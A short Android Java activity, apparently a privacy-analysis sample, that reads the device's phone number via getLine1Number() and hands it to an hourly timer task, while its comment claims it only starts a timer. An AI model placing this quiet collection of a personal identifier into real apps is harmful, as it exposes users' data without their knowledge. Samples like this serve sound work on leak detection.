package org.example.sousveil.timer_task;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.util.Timer;

/** Starts a timer. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        String found = phone.getLine1Number();
        new Timer("hourly", true).scheduleAtFixedRate(new Round(found), 1000L, 3600000L);
    }
}
